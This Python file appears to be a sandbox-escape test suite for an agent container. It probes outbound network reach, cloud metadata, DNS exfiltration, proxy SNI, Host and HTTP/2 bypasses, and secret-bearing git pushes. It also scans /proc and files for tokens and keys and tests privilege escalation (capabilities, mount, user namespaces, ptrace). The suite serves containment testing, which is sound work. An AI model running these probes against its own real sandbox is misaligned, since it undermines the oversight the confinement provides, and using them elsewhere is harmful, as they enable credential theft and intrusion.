# The escape suite's attempts, run inside a bottle (as the agent) and inside a plain container.
#
# `python3 attempts.py CONFIG.json ID...` runs the attempts named, at once, and prints
# one JSON line per attempt: {"id", "outcome": "blocked" | "escaped" | "error", "detail", "ms"}.
# "escaped" means the attempt got what it was after; "error" means the attempt itself broke
# (the suite fails on it: an attempt that cannot run proves nothing).
#
# Nothing here dials an address the config does not name; the config never holds a secret
# whole (the token and key are given in halves and searched for through a pipe), so the
# attempts do not plant what they look for.
import base64, ctypes, json, os, socket, ssl, struct, subprocess, sys, threading, time

CONFIG = json.load(open(sys.argv[1]))
PROXY = CONFIG.get("proxy")  # (host, port, user, token) of the egress, in a bottle only
TIMEOUT = 3


def errno_name(e):
    return getattr(e, "errno", None) and os.strerror(e.errno) or type(e).__name__


# ---- network -------------------------------------------------------------------------------

def dial_tcp(host, port):
    """(reached, detail) for a TCP dial that reads the listener's greeting."""
    try:
        family, kind, proto, _, addr = socket.getaddrinfo(host, port, 0, socket.SOCK_STREAM)[0]
        with socket.socket(family, kind, proto) as s:
            s.settimeout(TIMEOUT)
            s.connect(addr)
            greeting = s.recv(16)
            return True, "answered %r" % greeting
    except socket.timeout:
        return False, "timed out"
    except OSError as e:
        return False, errno_name(e)


def dial_udp(host, port, payload=b"probe"):
    """(answered, detail) for a datagram to a listener that answers every datagram."""
    try:
        family, kind, proto, _, addr = socket.getaddrinfo(host, port, 0, socket.SOCK_DGRAM)[0]
        with socket.socket(family, kind, proto) as s:
            s.settimeout(TIMEOUT)
            s.sendto(payload, addr)
            answer = s.recv(512)
            return True, "answered %r" % answer[:16]
    except socket.timeout:
        return False, "no answer"
    except OSError as e:
        return False, errno_name(e)


def dial_all(targets, dial):
    """Dials every (host, port) at once; escaped if any answered. Detail: counts and reasons."""
    results = {}

    def one(t):
        results[t] = dial(*t)

    threads = [threading.Thread(target=one, args=(t,)) for t in targets]
    [t.start() for t in threads]
    [t.join() for t in threads]
    reached = ["%s:%s" % t for t, (ok, _) in sorted(results.items()) if ok]
    reasons = sorted({d for ok, d in results.values() if not ok})
    detail = "%d/%d answered" % (len(reached), len(targets))
    if reached:
        detail += " (%s)" % ", ".join(reached[:4])
    if reasons:
        detail += "; others: %s" % ", ".join(reasons)
    return bool(reached), detail


def each(hosts, ports):
    return [(h, p) for h in hosts for p in ports]


def tcp_outside():
    return dial_tcp(CONFIG["outside_ip"], CONFIG["outside_tcp"])


def udp_outside():
    return dial_udp(CONFIG["outside_ip"], CONFIG["outside_udp"])


def tcp_host_every_address():
    return dial_all(each(CONFIG["host_addresses"], CONFIG["host_tcp_ports"]), dial_tcp)


def udp_host_every_address():
    return dial_all(each(CONFIG["host_addresses"], CONFIG["host_udp_ports"]), dial_udp)


def host_on_own_networks():
    hosts = CONFIG["own_network_hosts"]
    return dial_all(
        each(hosts, CONFIG["host_tcp_ports"]) + each(hosts, CONFIG["host_udp_ports"]),
        lambda h, p: dial_tcp(h, p) if p in CONFIG["host_tcp_ports"] else dial_udp(h, p),
    )


def host_ipv6():
    v6 = [h for h in CONFIG["host_addresses"] if ":" in h]
    if not v6:
        return False, "the host holds no IPv6 address"
    reached, detail = dial_all(each(v6, CONFIG["host_tcp_ports"]), dial_tcp)
    own = [l.split()[0] for l in open("/proc/net/if_inet6").read().splitlines()] if os.path.exists(
        "/proc/net/if_inet6") else []
    return reached, "%s; own IPv6 addresses: %d" % (detail, len([a for a in own if a != "0" * 31 + "1"]))


def metadata():
    return dial_tcp("169.254.169.254", 80)


def other_bottle():
    tcp = [(h, p) for h, p, k in CONFIG["other_bottle"] if k == "tcp"]
    udp = [(h, p) for h, p, k in CONFIG["other_bottle"] if k == "udp"]
    r1, d1 = dial_all(tcp, dial_tcp)
    r2, d2 = dial_all(udp, dial_udp)
    return r1 or r2, "tcp %s | udp %s" % (d1, d2)


# ---- DNS -----------------------------------------------------------------------------------

def resolve(name):
    try:
        addrs = sorted({a[4][0] for a in socket.getaddrinfo(name, 443, 0, socket.SOCK_STREAM)})
        return True, "resolved to %s" % ", ".join(addrs)
    except socket.gaierror as e:
        return False, e.strerror


def exfil_name():
    # The secret-looking payload, hex in a label: what a DNS exfiltration looks like.
    return "%s.exfil.bottle.test" % CONFIG["marker"].encode().hex()


def dns_query(server, name):
    labels = b"".join(bytes([len(l)]) + l.encode() for l in name.split(".")) + b"\0"
    packet = struct.pack(">HHHHHH", 0x4242, 0x0100, 1, 0, 0, 0) + labels + struct.pack(">HH", 1, 1)
    return dial_udp(server, 53, packet)


def dns_external_name():
    return resolve("example.com")


def dns_exfil_resolver():
    return resolve(exfil_name())


def dns_exfil_direct():
    return dns_query(CONFIG["dns_ip"], exfil_name())


def dns_via_egress():
    return dns_query(CONFIG["egress_ip"], exfil_name())


# ---- the egress ----------------------------------------------------------------------------

def proxy_auth(credential=True):
    if not credential:
        return b""
    user, token = PROXY[2], PROXY[3] if credential is True else credential
    return b"Proxy-Authorization: Basic " + base64.b64encode(("%s:%s" % (user, token)).encode()) + b"\r\n"


def read_head(s):
    data = b""
    while b"\r\n\r\n" not in data:
        chunk = s.recv(4096)
        if not chunk:
            break
        data += chunk
    return data


def status_of(head):
    try:
        return int(head.split(b"\r\n", 1)[0].split()[1])
    except (IndexError, ValueError):
        return None


def to_proxy():
    s = socket.create_connection((PROXY[0], PROXY[1]), timeout=10)
    s.settimeout(10)
    return s


def connect(authority, credential=True):
    """CONNECT through the egress: (socket, status)."""
    s = to_proxy()
    s.sendall(b"CONNECT %s HTTP/1.1\r\nHost: %s\r\n%s\r\n" % (
        authority.encode(), authority.encode(), proxy_auth(credential)))
    return s, status_of(read_head(s))


def refused_connect(authority, credential=True):
    s, status = connect(authority, credential)
    s.close()
    return status == 200, "CONNECT %s: %s" % (authority, status)


def tls(s, sni):
    ctx = ssl.create_default_context()
    if sni != CONFIG["origin"]:
        ctx.check_hostname = False
    return ctx.wrap_socket(s, server_hostname=sni)


def open_tunnel():
    """A tunnel to the routed origin; an attempt that needs one cannot run without it."""
    s, status = connect("%s:443" % CONFIG["origin"])
    if status != 200:
        raise RuntimeError("the control CONNECT to the routed origin answered %s" % status)
    return s


def control(request):
    """The same request without the trick must reach the origin, or the attempt shows nothing."""
    ok, detail = request_in_tunnel(CONFIG["origin"], request)
    if not ok:
        raise RuntimeError("the control request was refused: %s" % detail)


def request_in_tunnel(sni, request):
    """A request through a tunnel to the origin: (origin answered 200, detail)."""
    s = open_tunnel()
    try:
        t = tls(s, sni)
    except (ssl.SSLError, OSError) as e:
        return False, "TLS refused: %s" % (getattr(e, "reason", None) or e)
    t.sendall(request)
    head = read_head(t)
    t.close()
    answer = status_of(head)
    return answer == 200, "answered %s" % answer


def connect_unrouted():
    return refused_connect("unrouted.bottle.test:443")


def connect_ip_literal():
    return refused_connect("%s:443" % CONFIG["outside_ip"])


def connect_other_port():
    return refused_connect("%s:8443" % CONFIG["origin"])


ECHO = b"GET /echo HTTP/1.1\r\nHost: %s\r\n\r\n"


def sni_mismatch():
    control(ECHO % CONFIG["origin"].encode())
    return request_in_tunnel(
        "unrouted.bottle.test", b"GET /echo HTTP/1.1\r\nHost: unrouted.bottle.test\r\n\r\n")


def host_mismatch():
    control(ECHO % CONFIG["origin"].encode())
    return request_in_tunnel(
        CONFIG["origin"], b"GET /echo HTTP/1.1\r\nHost: unrouted.bottle.test\r\n\r\n")


def curl_h2(*headers):
    """(status, HTTP version) of an HTTP/2 GET /echo to the origin through the egress."""
    rc, out = sh("curl -s -o /dev/null --http2 -w '%%{http_code} %%{http_version}' %s https://%s/echo" % (
        " ".join("-H '%s'" % h for h in headers), CONFIG["origin"]))
    status, version = (out.split() + ["", ""])[:2]
    return status, version


def authority_mismatch_h2():
    status, version = curl_h2()
    if (status, version) != ("200", "2"):
        raise RuntimeError("the control HTTP/2 request answered %s over HTTP/%s" % (status, version))
    status, version = curl_h2("Host: unrouted.bottle.test")
    return status == "200", "answered %s over HTTP/%s" % (status, version)


def absolute_form_unrouted():
    s = to_proxy()
    s.sendall(b"GET http://unrouted.bottle.test/echo HTTP/1.1\r\nHost: unrouted.bottle.test\r\n%s\r\n"
              % proxy_auth())
    status = status_of(read_head(s))
    s.close()
    return status == 200, "answered %s" % status


def plain_http_in_tunnel():
    s = open_tunnel()
    s.sendall(b"GET /echo HTTP/1.1\r\nHost: %s\r\n\r\n" % CONFIG["origin"].encode())
    try:
        head = read_head(s)
    except OSError as e:
        return False, "tunnel closed: %s" % errno_name(e)
    s.close()
    if not head:
        return False, "the egress closed the tunnel unanswered"
    if head[:1] == b"\x15":
        return False, "the egress answered a TLS alert and closed"
    return status_of(head) == 200, "answered %r" % head[:40]


def h2c_upgrade():
    control(ECHO % CONFIG["origin"].encode())
    return request_in_tunnel(CONFIG["origin"], (
        "GET /echo HTTP/1.1\r\nHost: %s\r\nConnection: Upgrade, HTTP2-Settings\r\n"
        "Upgrade: h2c\r\nHTTP2-Settings: AAMAAABkAARAAAAAAAIAAAAA\r\n\r\n" % CONFIG["origin"]).encode())


def proxy_without_credential():
    open_tunnel().close()  # with the credential: allowed
    none_ok, none = refused_connect("%s:443" % CONFIG["origin"], credential=False)
    wrong_ok, wrong = refused_connect("%s:443" % CONFIG["origin"], credential="0" * 64)
    return none_ok or wrong_ok, "without: %s; wrong token: %s" % (none.split(": ")[1], wrong.split(": ")[1])


def introspection_write():
    s = to_proxy()
    s.sendall(b"PUT http://_egress.local/routes HTTP/1.1\r\nHost: _egress.local\r\n%s"
              b"Content-Length: 14\r\n\r\n{\"routes\": []}" % proxy_auth())
    status = status_of(read_head(s))
    s.close()
    written = []
    for path in CONFIG["trust_files"]:
        try:
            open(path, "a").close()
            written.append(path)
        except OSError as e:
            last = errno_name(e)
    if written:
        return True, "wrote %s" % ", ".join(written)
    return status == 200, "PUT /routes answered %s; %d trust files: %s" % (
        status, len(CONFIG["trust_files"]), last)


# ---- exfiltration and git ------------------------------------------------------------------

def sh(script, cwd="/tmp"):
    p = subprocess.run(["sh", "-c", script], cwd=cwd, capture_output=True, text=True, timeout=60)
    return p.returncode, (p.stdout + p.stderr).strip()


def last_line(text, *words):
    """The first line holding one of `words`, else the last line."""
    lines = [l.strip() for l in text.splitlines() if l.strip()]
    line = next((l for l in lines if any(w in l for w in words)), lines[-1] if lines else "")
    return line[:160]


def git_push_https():
    rc, out = sh("rm -rf /tmp/https && git clone -q https://%s/git/app.git /tmp/https 2>&1" % CONFIG["origin"])
    if rc != 0:
        raise RuntimeError("the control clone over HTTPS failed: %s" % last_line(out))
    rc, out = sh("git -c user.email=a@b -c user.name=a commit -q --allow-empty -m x && "
                 "git push -q origin HEAD:main 2>&1", cwd="/tmp/https")
    return rc == 0, last_line(out)


def gate_repo():
    rc, out = sh("test -d /tmp/gate || git clone -q ssh://git@%s/srv/app.git /tmp/gate 2>&1" % CONFIG["git_upstream"])
    if rc != 0:
        raise RuntimeError("clone through the gate failed: %s" % out)


def gate_push_outside_refs():
    gate_repo()
    rc, out = sh("git -c user.email=a@b -c user.name=a commit -q --allow-empty -m x && "
                 "git push origin HEAD:main 2>&1", cwd="/tmp/gate")
    return rc == 0, last_line(out, "PushRefs", "refused")


def gate_push_secret():
    gate_repo()
    rc, out = sh("git checkout -q -b agent/leak && printf 'key = %s%s\\n' > deploy.ini && git add deploy.ini && "
                 "git -c user.email=a@b -c user.name=a commit -q -m leak && git push origin agent/leak 2>&1"
                 % tuple(CONFIG["aws_key_halves"]), cwd="/tmp/gate")
    return rc == 0, last_line(out, "aws-access-key-id")


def gate_push_undeclared():
    gate_repo()
    rc1, out1 = sh("git push http://git-gate:9419/undeclared.git HEAD:refs/heads/agent/x 2>&1", cwd="/tmp/gate")
    rc2, out2 = sh("GIT_SSH_COMMAND='ssh -o ConnectTimeout=3 -o BatchMode=yes' git "
                   "push ssh://git@%s:22/srv/other.git HEAD:refs/heads/agent/x 2>&1" % CONFIG["git_upstream_ip"],
                   cwd="/tmp/gate")
    return rc1 == 0 or rc2 == 0, "gate: %s | direct ssh: %s" % (last_line(out1, "fatal"), last_line(out2, "ssh:"))


# ---- credentials ---------------------------------------------------------------------------

def joined(key):
    return "".join(CONFIG[key])


def token_env():
    found = [k for k, v in os.environ.items() if joined("token_halves") in v]
    return bool(found), "in %s" % found if found else "in none of %d variables" % len(os.environ)


def token_proc_environ():
    token, found, read = joined("token_halves").encode(), [], 0
    for pid in filter(str.isdigit, os.listdir("/proc")):
        try:
            data = open("/proc/%s/environ" % pid, "rb").read()
            read += 1
        except OSError:
            continue
        if token in data:
            found.append(pid)
    return bool(found), "in pids %s" % found if found else "in none of %d readable environs" % read


def token_from_egress():
    s = to_proxy()
    s.sendall(b"GET http://_egress.local/routes HTTP/1.1\r\nHost: _egress.local\r\nConnection: close\r\n%s\r\n"
              % proxy_auth())
    body = b""
    while True:
        chunk = s.recv(65536)
        if not chunk:
            break
        body += chunk
    s.close()
    if status_of(body) != 200 or CONFIG["origin"].encode() not in body:
        raise RuntimeError("the control read of /routes failed: %r" % body[:80])
    leaked = joined("token_halves").encode() in body
    return leaked, "/routes answered %d bytes, %s" % (len(body), "the token among them" if leaked else "no token")


def grep_files(pattern, roots):
    p = subprocess.run(["grep", "-rIlsF", "--exclude-dir=proc", "--exclude-dir=sys", "--exclude-dir=dev",
                        "-f", "-"] + roots, input=pattern, capture_output=True, text=True, timeout=120)
    return [l for l in p.stdout.splitlines() if l]


def token_files():
    found = grep_files(joined("token_halves") + "\n", ["/"])
    return bool(found), "in %s" % found[:3] if found else "in no file"


def ca_private_key():
    # The bottle CA's own key, by a line of its body, anywhere; and any private key at all where
    # a key would be put. The headers are spelled in parts, so that this script is not itself a
    # file holding them.
    ca_key = grep_files(joined("ca_key_halves") + "\n", ["/"])
    begin = "-----" + "BEGIN "
    any_key = grep_files("".join(begin + kind + "PRIVATE KEY\n" for kind in ("", "EC ", "RSA ", "OPENSSH ")),
                         ["/etc", "/home", "/tmp", "/root", "/run", "/var", "/usr/local", "/opt"])
    found = sorted(set(ca_key + any_key))
    return bool(found), "in %s" % found[:3] if found else \
        "the CA key in no file; no private key in /etc /home /tmp /root /run /var /usr/local /opt"


def gate_ssh_key():
    files = grep_files(joined("ssh_key_halves") + "\n", ["/"])
    body = joined("ssh_key_halves").encode()
    procs = []
    for pid in filter(str.isdigit, os.listdir("/proc")):
        for part in ("environ", "cmdline"):
            try:
                if body in open("/proc/%s/%s" % (pid, part), "rb").read():
                    procs.append(pid)
            except OSError:
                pass
    ssh_dir = os.path.expanduser("~/.ssh")
    keys = os.listdir(ssh_dir) if os.path.isdir(ssh_dir) else []
    found = files or procs or keys
    return bool(found), "files %s, processes %s, ~/.ssh %s" % (files[:3], procs, keys) if found else \
        "in no file, environ or command line; no ~/.ssh"


def docker_socket():
    sockets = [p for p in ("/var/run/docker.sock", "/run/docker.sock", "/run/containerd/containerd.sock",
                           "/var/run/docker/containerd/containerd.sock") if os.path.exists(p)]
    env = [k for k in ("DOCKER_HOST", "CONTAINER_HOST") if k in os.environ]
    found = sockets + env
    return bool(found), "found %s" % found if found else "no engine socket, no DOCKER_HOST"


# ---- privilege -----------------------------------------------------------------------------

CAPS = {"NET_ADMIN": 12, "NET_RAW": 13, "SYS_PTRACE": 19, "SYS_ADMIN": 21}


def status_field(name):
    for line in open("/proc/self/status"):
        if line.startswith(name + ":"):
            return line.split()[1]


def root():
    uid, euid = os.getuid(), os.geteuid()
    return uid == 0 or euid == 0, "uid %d euid %d" % (uid, euid)


def no_new_privs():
    value = status_field("NoNewPrivs")
    return value != "1", "NoNewPrivs %s" % value


def capabilities():
    held = []
    for field in ("CapEff", "CapPrm", "CapBnd", "CapAmb", "CapInh"):
        bits = int(status_field(field), 16)
        held += ["%s in %s" % (cap, field) for cap, bit in CAPS.items() if bits >> bit & 1]
    return bool(held), ", ".join(held) if held else "none of %s in any set" % "/".join(CAPS)


def raw_socket():
    try:
        socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP).close()
        return True, "raw socket opened"
    except OSError as e:
        return False, errno_name(e)


def net_admin():
    # SIOCSIFMTU on lo, to the MTU it already has: the kernel asks for CAP_NET_ADMIN first.
    import fcntl
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        ifreq = struct.pack("16si12x", b"lo", 0)
        mtu = struct.unpack("16si12x", fcntl.ioctl(s, 0x8921, ifreq))[1]  # SIOCGIFMTU
        try:
            fcntl.ioctl(s, 0x8922, struct.pack("16si12x", b"lo", mtu))  # SIOCSIFMTU
            return True, "set lo's MTU"
        except OSError as e:
            return False, "SIOCSIFMTU on lo: %s" % errno_name(e)


LIBC = ctypes.CDLL(None, use_errno=True)


def mount_fs():
    os.makedirs("/tmp/m", exist_ok=True)
    if LIBC.mount(b"none", b"/tmp/m", b"tmpfs", 0, None) == 0:
        LIBC.umount(b"/tmp/m")
        return True, "tmpfs mounted"
    syscall = os.strerror(ctypes.get_errno())
    rc, out = sh("mount -t tmpfs none /tmp/m 2>&1")
    if rc == 0:
        sh("umount /tmp/m")
        return True, "setuid mount mounted tmpfs"
    return False, "mount(2): %s; setuid mount: %s" % (syscall, last_line(out, "mount:"))


def user_namespace():
    rc, out = sh("unshare -Ur id -u 2>&1")
    return rc == 0, last_line(out)


def setuid_binaries():
    # `passwd -S` reads /etc/shadow (root:shadow 0640) only when its setuid bit takes effect.
    me = "node"
    cmd = "passwd -S %s 2>&1" % me if os.getuid() != 0 else "runuser -u node -- passwd -S %s 2>&1" % me
    rc, out = sh(cmd)
    fields = out.split()
    count = int(sh("find / -xdev -perm -4000 -type f 2>/dev/null | wc -l")[1] or 0)
    read_shadow = rc == 0 and len(fields) >= 3
    return read_shadow, "%d setuid binaries; passwd -S: %r" % (count, out[:40])


def ptrace_others():
    me = os.getuid()
    others, attached, refused = [], [], []
    for pid in filter(str.isdigit, os.listdir("/proc")):
        try:
            uid = int(next(l for l in open("/proc/%s/status" % pid) if l.startswith("Uid:")).split()[1])
        except (OSError, StopIteration):
            continue
        if uid != me:
            others.append(pid)
            if LIBC.ptrace(16, int(pid), None, None) == 0:  # PTRACE_ATTACH
                attached.append(pid)
                LIBC.ptrace(17, int(pid), None, None)  # PTRACE_DETACH
            else:
                refused.append(os.strerror(ctypes.get_errno()))
    total = len(list(filter(str.isdigit, os.listdir("/proc"))))
    if attached:
        return True, "attached to %s" % attached
    return False, "%d processes visible, %d of another user%s" % (
        total, len(others), " (%s)" % ", ".join(sorted(set(refused))) if refused else "")


def host_processes():
    names = []
    for pid in filter(str.isdigit, os.listdir("/proc")):
        try:
            names.append(open("/proc/%s/comm" % pid).read().strip())
        except OSError:
            pass
    host = [n for n in names if n in ("dockerd", "containerd", "systemd", "sshd", "cargo", "bottle-egress")]
    return bool(host), "sees %s" % host if host else "%d processes, all the container's own" % len(names)


ATTEMPTS = {
    "tcp-outside": tcp_outside,
    "udp-outside": udp_outside,
    "tcp-host-every-address": tcp_host_every_address,
    "udp-host-every-address": udp_host_every_address,
    "host-on-own-networks": host_on_own_networks,
    "host-ipv6": host_ipv6,
    "cloud-metadata": metadata,
    "other-bottle": other_bottle,
    "dns-external-name": dns_external_name,
    "dns-exfil-resolver": dns_exfil_resolver,
    "dns-exfil-direct": dns_exfil_direct,
    "dns-via-egress": dns_via_egress,
    "connect-unrouted": connect_unrouted,
    "connect-ip-literal": connect_ip_literal,
    "connect-other-port": connect_other_port,
    "sni-mismatch": sni_mismatch,
    "host-mismatch": host_mismatch,
    "authority-mismatch-h2": authority_mismatch_h2,
    "absolute-form-unrouted": absolute_form_unrouted,
    "plain-http-in-tunnel": plain_http_in_tunnel,
    "h2c-upgrade": h2c_upgrade,
    "proxy-without-credential": proxy_without_credential,
    "git-push-https": git_push_https,
    "gate-push-outside-refs": gate_push_outside_refs,
    "gate-push-secret": gate_push_secret,
    "gate-push-undeclared": gate_push_undeclared,
    "token-env": token_env,
    "token-proc-environ": token_proc_environ,
    "token-files": token_files,
    "token-from-egress": token_from_egress,
    "ca-private-key": ca_private_key,
    "gate-ssh-key": gate_ssh_key,
    "docker-socket": docker_socket,
    "root": root,
    "no-new-privs": no_new_privs,
    "capabilities": capabilities,
    "raw-socket": raw_socket,
    "net-admin": net_admin,
    "mount": mount_fs,
    "user-namespace": user_namespace,
    "setuid-binaries": setuid_binaries,
    "ptrace-others": ptrace_others,
    "host-processes": host_processes,
    "egress-config-write": introspection_write,
}

# The git attempts share one clone and run in order; every other attempt runs in a thread of its
# own, so the suite waits for its slowest attempt, not for the sum of their timeouts.
SEQUENTIAL = [a for a in sys.argv[2:] if a.startswith("gate-") or a == "git-push-https"]
RESULTS = {}


def run(attempts):
    for attempt in attempts:
        started = time.monotonic()
        try:
            escaped, detail = ATTEMPTS[attempt]()
            outcome = "escaped" if escaped else "blocked"
        except Exception as e:  # the attempt could not run: the suite reports and fails it
            outcome, detail = "error", "%s: %s" % (type(e).__name__, e)
        ms = int((time.monotonic() - started) * 1000)
        RESULTS[attempt] = {"id": attempt, "outcome": outcome, "detail": detail, "ms": ms}


groups = [SEQUENTIAL] + [[a] for a in sys.argv[2:] if a not in SEQUENTIAL]
threads = [threading.Thread(target=run, args=(g,)) for g in groups if g]
[t.start() for t in threads]
[t.join() for t in threads]
for attempt in sys.argv[2:]:
    print(json.dumps(RESULTS[attempt]), flush=True)
